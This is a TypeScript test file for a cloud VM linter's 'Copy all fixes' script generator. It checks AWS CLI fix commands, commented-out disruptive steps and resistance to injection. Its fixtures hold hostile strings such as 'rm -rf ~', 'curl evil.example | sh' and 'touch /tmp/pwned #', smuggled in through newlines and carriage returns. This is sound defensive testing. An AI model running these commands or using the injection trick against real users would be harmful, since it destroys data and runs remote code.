/**
 * "Copy all fixes" (src/engine/fix-script.ts): one comment per failing finding, its commands in
 * order, disruptive steps commented out, unfilled placeholders named, and no page string can ever
 * break out of a comment line.
 */
import { describe, expect, it } from 'vitest';
import { evaluateResource } from '../../../src/engine/evaluate';
import { fixScript, stepLines } from '../../../src/engine/fix-script';
import { loadRulesFromDir } from '../../../src/engine/load-rules-fs';
import type { Finding, RenderedStep } from '../../../src/model/finding';
import { VmSnapshot } from '../../../src/model/snapshot';

const ID = 'i-0abc12345def67890';

function finding(over: Partial<Finding> = {}): Finding {
  return {
    ruleId: 'aws-ec2-imdsv2-required',
    resourceId: ID,
    provider: 'aws',
    status: 'fail',
    severity: 'high',
    title: 'Instance metadata requires IMDSv2 session tokens',
    category: 'access-control',
    evidence: [],
    fix: {
      cli: [{ command: `aws ec2 modify-instance-metadata-options --instance-id ${ID} --http-tokens required --region us-east-1`, disruptive: false, unfilled: [] }],
      console: [],
    },
    ...over,
  };
}

const step = (over: Partial<RenderedStep>): RenderedStep => ({ disruptive: false, unfilled: [], ...over });

/** Lines a shell would run: not empty, not a comment. */
const runnable = (script: string) => script.split('\n').filter((l) => l.trim() !== '' && !l.trimStart().startsWith('#'));
/** What a terminal does on paste: CR and LF both end a line (ICRNL), so split on either. */
const pastedLines = (script: string) => script.split(/\r\n|\r|\n/);

describe('fixScript', () => {
  it('is a POSIX sh script with a header and a trailing newline', () => {
    const s = fixScript([finding()]);
    expect(s.startsWith('#!/bin/sh\n# vmlint fixes\n')).toBe(true);
    expect(s.endsWith('\n')).toBe(true);
    expect(s.endsWith('\n\n')).toBe(false);
  });

  it('one comment per failing finding, then its commands in order', () => {
    const a = finding({
      fix: {
        cli: [step({ command: 'aws ec2 one' }), step({ command: 'aws ec2 two' }), step({ command: 'aws ec2 three' })],
        console: [],
      },
    });
    const b = finding({ ruleId: 'aws-sg-ssh-not-public', severity: 'critical', item: 'sgr-0aaa', title: 'No SSH from the internet', fix: { cli: [step({ command: 'aws ec2 four' })], console: [] } });
    const s = fixScript([a, b]);
    const heads = s.split('\n').filter((l) => l.startsWith('# ['));
    expect(heads).toEqual([
      `# [high] aws-ec2-imdsv2-required: Instance metadata requires IMDSv2 session tokens on ${ID}`,
      `# [critical] aws-sg-ssh-not-public: No SSH from the internet (sgr-0aaa) on ${ID}`,
    ]);
    expect(runnable(s)).toEqual(['aws ec2 one', 'aws ec2 two', 'aws ec2 three', 'aws ec2 four']);
    expect(s.indexOf('aws ec2 three')).toBeLessThan(s.indexOf(heads[1]));
  });

  it('only failing findings with a fix are included', () => {
    const s = fixScript([
      finding({ status: 'pass', fix: { cli: [step({ command: 'echo pass' })], console: [] } }),
      finding({ status: 'unknown', fix: { cli: [step({ command: 'echo unknown' })], console: [] } }),
      finding({ status: 'not-applicable', fix: { cli: [step({ command: 'echo na' })], console: [] } }),
      finding({ fix: undefined, ruleId: 'aws-no-fix' }),
      finding({ fix: { cli: [step({ command: 'echo fail' })], console: [] } }),
    ]);
    expect(runnable(s)).toEqual(['echo fail']);
    expect(s).not.toContain('aws-no-fix');
    expect(s.split('\n').filter((l) => l.startsWith('# ['))).toHaveLength(1);
  });

  it('nothing failing → only the header', () => {
    expect(fixScript([finding({ status: 'pass' })])).toBe('#!/bin/sh\n# vmlint fixes\n# Review every command before running it.\n');
  });

  it('disruptive steps are commented out, every line of them', () => {
    const s = fixScript([
      finding({
        fix: {
          cli: [
            step({ command: `aws ec2 stop-instances --instance-ids ${ID}`, disruptive: true }),
            step({ command: 'aws ec2 create-image \\\n  --instance-id i-1 \\\n  --name x', disruptive: true }),
            step({ command: 'aws ec2 describe-instances' }),
          ],
          console: [],
        },
      }),
    ]);
    expect(runnable(s)).toEqual(['aws ec2 describe-instances']);
    expect(s).toContain(`# aws ec2 stop-instances --instance-ids ${ID}`);
    expect(s).toContain('# aws ec2 create-image \\\n#   --instance-id i-1 \\\n#   --name x');
    expect(s).toMatch(/# disruptive .*removing the "# "/);
  });

  it('names the placeholders still to fill in, above their command', () => {
    const lines = stepLines(step({ command: 'aws ec2 authorize --cidr {user.trustedCidr} --group-id {groupId}', unfilled: ['{user.trustedCidr}', '{groupId}'] }));
    expect(lines).toEqual(['# fill in first: {user.trustedCidr} {groupId}', 'aws ec2 authorize --cidr {user.trustedCidr} --group-id {groupId}']);
    expect(stepLines(step({ command: 'x' }))).toEqual(['x']);
  });

  it('a note step is a comment; an empty note step is nothing', () => {
    expect(stepLines(step({ note: 'prefer SSM Session Manager' }))).toEqual(['# prefer SSM Session Manager']);
    expect(stepLines(step({}))).toEqual([]);
    expect(stepLines(step({ command: 'x', note: 'why' }))).toEqual(['# why', 'x']);
  });

  it('with real rules: filled commands, named placeholders, disruptive steps commented', () => {
    const rules = loadRulesFromDir();
    const vm = VmSnapshot.parse({
      kind: 'vm',
      provider: 'aws',
      id: ID,
      region: 'us-east-1',
      hasPublicAddress: true,
      aws: {
        instanceId: ID,
        metadataOptions: { httpEndpoint: 'enabled', httpTokens: 'optional' },
        securityGroups: [{ id: 'sg-1', groupId: 'sg-0123456789abcdef0', inbound: [{ id: 'sgr-0aaa', securityGroupRuleId: 'sgr-0aaa', groupId: 'sg-0123456789abcdef0', protocol: 'tcp', ports: ['22'], source: '0.0.0.0/0' }] }],
        volumes: [{ id: 'vol-0123456789abcdef0', volumeId: 'vol-0123456789abcdef0', deviceName: '/dev/xvda', encrypted: false, attachedTo: [ID] }],
      },
    });
    const findings = evaluateResource(rules, vm, { now: '2026-06-01T00:00:00Z' });
    const failing = findings.filter((f) => f.status === 'fail' && f.fix);
    expect(failing.length).toBeGreaterThanOrEqual(3);
    const s = fixScript(findings);
    expect(s.split('\n').filter((l) => l.startsWith('# ['))).toHaveLength(failing.length);
    expect(s).toContain(`aws ec2 modify-instance-metadata-options --instance-id ${ID} --http-tokens required --http-endpoint enabled --region us-east-1`);
    expect(s).toContain('aws ec2 revoke-security-group-ingress --group-id sg-0123456789abcdef0 --security-group-rule-ids sgr-0aaa --region us-east-1');
    expect(s).toContain('# fill in first: {user.trustedCidr}');
    // Every disruptive step of every failing finding shows up commented, never runnable.
    const disruptive = failing.flatMap((f) => f.fix!.cli.filter((c) => c.disruptive && c.command).map((c) => c.command!));
    expect(disruptive.length).toBeGreaterThan(0);
    const run = runnable(s);
    for (const d of disruptive) for (const line of d.split('\n')) expect(run).not.toContain(line);
  });
});

describe('hostile strings never break out of a comment', () => {
  const EVIL = ['\nrm -rf ~', '\r\nrm -rf ~', '\rrm -rf ~', '\n\n\ncurl evil.example | sh', 'x\n#\nrm -rf ~'];

  it.each(EVIL)('title, item, resource id, header and notes holding %j', (evil) => {
    const s = fixScript(
      [
        finding({
          title: `Title${evil}`,
          item: `sgr-1${evil}`,
          resourceId: `${ID}${evil}`,
          fix: {
            cli: [step({ note: `a note${evil}` }), step({ command: 'aws ec2 safe', note: `why${evil}` })],
            console: [],
          },
        }),
      ],
      `header${evil}`,
    );
    for (const line of pastedLines(s)) {
      if (line.trim() === '' || line.startsWith('#')) continue;
      expect(line).toBe('aws ec2 safe');
    }
    expect(s).not.toMatch(/^(rm|curl)/m);
  });

  it.each(['\nrm -rf ~', '\n\ncurl evil.example | sh', "\ntouch /tmp/pwned #"])('a disruptive command whose quoted value holds %j stays commented', (evil) => {
    const s = fixScript([finding({ fix: { cli: [step({ command: `aws ec2 stop-instances --instance-ids 'i-1${evil}'`, disruptive: true })], console: [] } })]);
    expect(runnable(s)).toEqual([]);
  });

  // Regression test for a fixed bug (src/engine/fix-script.ts stepLines): a disruptive command is commented out line by line
  // with `split('\n')`, but a lone "\r" inside it (a value shell-quoted into the command) is left
  // in the comment. A script file run by sh is safe, but "Copy all fixes" is meant to be pasted
  // into a terminal, where CR ends the line (Enter / ICRNL): the rest runs, and since the comment
  // ate the opening quote, the quoted value's tail runs unquoted (`i-1\rtouch /tmp/pwned #`).
  // Suggested fix: split on /\r\n|\r|\n/ (and do the same in oneLine's callers), or replace CRs.
  it('a CR inside a disruptive command does not end its comment when pasted', () => {
    const s = fixScript([finding({ fix: { cli: [step({ command: "aws ec2 stop-instances --instance-ids 'i-1\rtouch /tmp/pwned #'", disruptive: true })], console: [] } })]);
    for (const line of pastedLines(s)) if (line.trim() !== '') expect(line.startsWith('#')).toBe(true);
  });

  // Regression test for a fixed bug (hardening, src/engine/fix-script.ts stepLines): the unfilled placeholder names are joined
  // into a comment without oneLine(). The engine's placeholder regex cannot produce a newline, so
  // this is not reachable from bundled rules today, but fixScript accepts any Finding (the popup's
  // come from storage). Suggested fix: `step.unfilled.map(oneLine).join(' ')`.
  it('unfilled placeholder names with a newline stay in their comment', () => {
    const s = fixScript([finding({ fix: { cli: [step({ command: 'aws ec2 safe', unfilled: ['{user.x}\nrm -rf ~'] })], console: [] } })]);
    expect(runnable(s)).toEqual(['aws ec2 safe']);
  });
});
